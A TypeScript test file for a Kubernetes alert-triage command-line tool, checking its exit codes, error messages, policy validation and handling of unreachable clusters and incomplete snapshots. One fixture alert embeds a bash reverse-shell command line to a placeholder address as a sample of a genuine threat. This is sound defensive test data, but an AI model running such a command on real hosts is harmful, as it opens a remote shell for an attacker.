/**
 * Exit codes and messages for every failure class, as documented in docs/exit-codes.md:
 * 0 done, 1 the --fail-on condition was met, 2 usage or input error. Each message names what went wrong and where.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeSnapshot } from '../../src/cluster/snapshot-file.js';
import { fuzzSnapshot, NODE_A, NODE_B } from '../fuzz/cluster.js';
import { scratch } from '../fuzz/support.js';
import { BUILT, runCli } from './run-cli.js';

const falco = (o: Record<string, unknown>) => JSON.stringify({ rule: 'Terminal shell in container', priority: 'Warning', output: 'x', time: '2026-01-01T12:00:00Z', ...o });
/** Calico's Felix restoring iptables on a node where calico-node runs: a false positive in the fuzz cluster. */
const FP = falco({ rule: 'Modify iptables', hostname: NODE_A, output_fields: { 'proc.name': 'iptables-restore', 'proc.cmdline': 'iptables-restore --noflush', 'proc.pname': 'calico-node', 'proc.pcmdline': 'calico-node -felix', 'container.id': 'host' } });
/** A reverse shell: genuine whatever the context. */
const GENUINE = falco({ hostname: NODE_B, output_fields: { 'proc.name': 'bash', 'proc.cmdline': 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'container.id': 'host' } });

let dir: string;
let remove: () => void;
const p: Record<string, string> = {};

/** A loopback port with nothing listening: bind, note the port, close. */
async function closedPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

beforeAll(async () => {
  ({ dir, remove } = scratch('exit'));
  const file = (name: string, content: string) => {
    p[name] = join(dir, name);
    writeFileSync(p[name], content);
  };
  file('fp.ndjson', `${FP}\n`);
  file('genuine.ndjson', `${GENUINE}\n`);
  file('both.ndjson', `${FP}\n${GENUINE}\n`);
  file('empty.ndjson', '');
  file('prose.txt', 'Dear SOC\nplease find the alerts attached\n');
  file('unknown.json', '[{"colour": "blue"}, {"colour": "red"}]\n');
  file('policy-bad-yaml.yaml', 'trusted: [unclosed\n');
  file('policy-bad-key.yaml', 'trusted:\n  users: [alice]\nallow_everything: true\n');
  file('policy-bad-exception.yaml', 'exceptions:\n  - reason: too broad\n    match: { namespace: shop }\n');
  p.snapshot = join(dir, 'cluster.json');
  await writeSnapshot(fuzzSnapshot(), p.snapshot);
  const complete = fuzzSnapshot();
  complete.gaps = [];
  p.complete = join(dir, 'complete.json');
  await writeSnapshot(complete, p.complete);
  p.emptyDir = join(dir, 'no-alerts');
  mkdirSync(p.emptyDir);
  const port = await closedPort();
  p.kubeconfig = join(dir, 'kubeconfig');
  writeFileSync(
    p.kubeconfig,
    JSON.stringify({
      apiVersion: 'v1',
      kind: 'Config',
      clusters: [{ name: 'gone', cluster: { server: `https://127.0.0.1:${port}`, 'insecure-skip-tls-verify': true } }],
      users: [{ name: 'u', user: { token: 'kubeconfig-secret-token-0123456789' } }],
      contexts: [{ name: 'prod-eu', context: { cluster: 'gone', user: 'u' } }],
      'current-context': 'prod-eu',
    }),
  );
  p.serverUrl = `https://127.0.0.1:${port}`;
});
afterAll(() => remove());

describe.skipIf(!BUILT)('exit 0: done', () => {
  it('a run with alerts, with or without context', async () => {
    expect((await runCli([p['both.ndjson'], '--format', 'json'])).code).toBe(0);
    expect((await runCli([p['both.ndjson'], '--snapshot', p.snapshot, '--format', 'json'])).code).toBe(0);
  });
  it('--fail-on genuine when every alert is a false positive', async () => {
    const r = await runCli([p['fp.ndjson'], '--snapshot', p.complete, '--fail-on', 'genuine', '--format', 'json']);
    expect(r.code, r.stdout).toBe(0);
    expect((JSON.parse(r.stdout) as { verdicts: { label: string }[] }).verdicts[0].label).toBe('likely-false-positive');
  });
  it('--help and --version-like subcommands', async () => {
    expect((await runCli(['--help'])).code).toBe(0);
    expect((await runCli(['rules'])).code).toBe(0);
    expect((await runCli(['formats'])).code).toBe(0);
  });
  it('rules: one row per rule, the description column aligned whatever the longest id', async () => {
    const lines = (await runCli(['rules'])).stdout.trimEnd().split('\n');
    const column = lines[0].indexOf('description');
    expect(lines.length).toBeGreaterThan(10);
    for (const line of lines.slice(1)) expect(line.slice(column - 10, column)).toMatch(/^(?:malicious|benign {3}|both {5}) $/);
  });
  it('stdin', async () => {
    const r = await runCli(['-', '--format', 'ndjson'], { stdin: `${GENUINE}\n` });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.trim().split('\n')).toHaveLength(1);
  });
  it('some inputs refused, others read: the run goes on, with a warning naming the refused file', async () => {
    const r = await runCli([p['prose.txt'], p['genuine.ndjson'], '--format', 'json']);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(`${p['prose.txt']}: unknown format`);
  });
});

describe.skipIf(!BUILT)('exit 1: the --fail-on condition was met', () => {
  it('--fail-on genuine with a genuine alert; the report is still complete', async () => {
    const r = await runCli([p['both.ndjson'], '--snapshot', p.complete, '--fail-on', 'genuine', '--format', 'json']);
    expect(r.code).toBe(1);
    expect((JSON.parse(r.stdout) as { summary: { triaged: number } }).summary.triaged).toBe(2);
  });
  it('without --fail-on, genuine alerts do not fail the run', async () => {
    expect((await runCli([p['genuine.ndjson'], '--format', 'json'])).code).toBe(0);
  });
});

describe.skipIf(!BUILT)('exit 2: usage errors', () => {
  const cases: [string, string[], RegExp][] = [
    ['an unknown flag', ['--frobnicate', 'x.json'], /unknown option '--frobnicate'/],
    ['a bad --format value', ['x.json', '--format', 'pdf'], /argument 'pdf' is invalid.*Allowed choices are table, json, ndjson/s],
    ['a bad --fail-on value', ['x.json', '--fail-on', 'anything'], /argument 'anything' is invalid/],
    ['a bad --vendor value', ['x.json', '--vendor', 'acme'], /argument 'acme' is invalid/],
    ['no input at all', [], /no input: give alert files, directories or - for stdin/],
    ['a bad --since', ['x.json', '--since', 'yesterday'], /--since/],
    ['a bad --timeout', ['x.json', '--context', 'x', '--timeout', 'soon'], /--timeout must be a positive number of milliseconds/],
    ['a missing option value', ['x.json', '--format'], /option '-f, --format <format>' argument missing/],
  ];
  for (const [name, args, message] of cases) {
    it(name, async () => {
      const r = await runCli(args);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(message);
      expect(r.stdout).toBe('');
    });
  }
});

describe.skipIf(!BUILT)('exit 2: input errors, each message naming the file', () => {
  it('an input path that does not exist', async () => {
    const missing = join(dir, 'nope.json');
    const r = await runCli([missing]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`cannot read ${missing}: ENOENT`);
  });
  it('nothing readable: an empty file', async () => {
    const r = await runCli([p['empty.ndjson']]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`${p['empty.ndjson']}: the file is empty`);
  });
  it('nothing readable: a directory without alert files (was: exit 0, a CI job passed on an empty export)', async () => {
    const r = await runCli([p.emptyDir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`${p.emptyDir}: no alert files found`);
  });
  it('unknown format: refused with what is expected', async () => {
    const r = await runCli([p['prose.txt']]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`${p['prose.txt']}: unknown format; expected CSV, JSON (an array or an object holding one), NDJSON, CEF lines or a Zeek TSV log, from one of: crowdstrike`);
  });
  it('records no product profile recognises: refused with what is expected', async () => {
    const r = await runCli([p['unknown.json']]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(new RegExp(`${p['unknown.json'].replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: no product profile recognises these records; expected CSV`));
  });
  it('a snapshot path that does not exist', async () => {
    const r = await runCli([p['fp.ndjson'], '--snapshot', join(dir, 'no-such-snapshot.json')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`snapshot: cannot open ${join(dir, 'no-such-snapshot.json')}: ENOENT`);
  });
});

describe.skipIf(!BUILT)('exit 2: a bad policy file, with the file and the problem', () => {
  const cases: [string, RegExp][] = [
    ['policy-bad-yaml.yaml', /: not valid YAML: /],
    ['policy-bad-key.yaml', /: unknown key "allow_everything" \(expected trusted, components, exceptions\)/],
    ['policy-bad-exception.yaml', /exception/],
  ];
  for (const [name, message] of cases) {
    it(name, async () => {
      const r = await runCli([p['fp.ndjson'], '--policy', p[name]]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(`kdr-triage: ${p[name]}`);
      expect(r.stderr).toMatch(message);
      expect(r.stdout).toBe('');
    });
  }
  it('a policy file that does not exist', async () => {
    const r = await runCli([p['fp.ndjson'], '--policy', join(dir, 'nope.yaml')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(join(dir, 'nope.yaml'));
  });
});

describe.skipIf(!BUILT)('exit 2: an unreachable cluster, naming context and server', () => {
  it('triage with --context', async () => {
    const r = await runCli([p['fp.ndjson'], '--kubeconfig', p.kubeconfig, '--context', 'prod-eu', '--timeout', '3000'], { timeoutMs: 60_000 });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('prod-eu');
    expect(r.stderr).toContain(p.serverUrl.replace('https://', ''));
    expect(r.stderr).toMatch(/connection refused/);
    expect(r.stderr).not.toContain('kubeconfig-secret-token');
    expect(r.stdout).toBe('');
  });
  it('the snapshot subcommand (its own -o and --context, not the triage options of the same names)', async () => {
    const out = join(dir, 'never.json');
    const r = await runCli(['snapshot', '--kubeconfig', p.kubeconfig, '--context', 'prod-eu', '-o', out, '--timeout', '3000'], { timeoutMs: 60_000 });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('prod-eu');
    expect(r.stderr).toMatch(/connection refused/);
    expect(r.stderr).not.toMatch(/required option/);
    expect(r.stderr).not.toContain('kubeconfig-secret-token');
  });
  it('an unknown context names the ones that exist', async () => {
    const r = await runCli([p['fp.ndjson'], '--kubeconfig', p.kubeconfig, '--context', 'staging']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('staging');
    expect(r.stderr).toContain('prod-eu');
  });
});

describe.skipIf(!BUILT)('partial context is said, not hidden', () => {
  it('a snapshot with gaps: matched alerts say context partial, and the gap is reported', async () => {
    const r = await runCli([p['both.ndjson'], '--snapshot', p.snapshot, '--format', 'json']);
    expect(r.code).toBe(0);
    const report = JSON.parse(r.stdout) as { verdicts: { context: string }[]; summary: { gaps: string[] } };
    expect(report.verdicts.map((v) => v.context)).toEqual(['partial', 'partial']);
    expect(report.summary.gaps.join('\n')).toContain('events: forbidden (403)');
    const table = await runCli([p['both.ndjson'], '--snapshot', p.snapshot, '--format', 'table']);
    expect(table.stdout).toMatch(/gap: .*events: forbidden \(403\)/);
  });
  it('the same snapshot without gaps: context full', async () => {
    const r = await runCli([p['fp.ndjson'], '--snapshot', p.complete, '--format', 'json']);
    expect((JSON.parse(r.stdout) as { verdicts: { context: string }[] }).verdicts[0].context).toBe('full');
  });
});
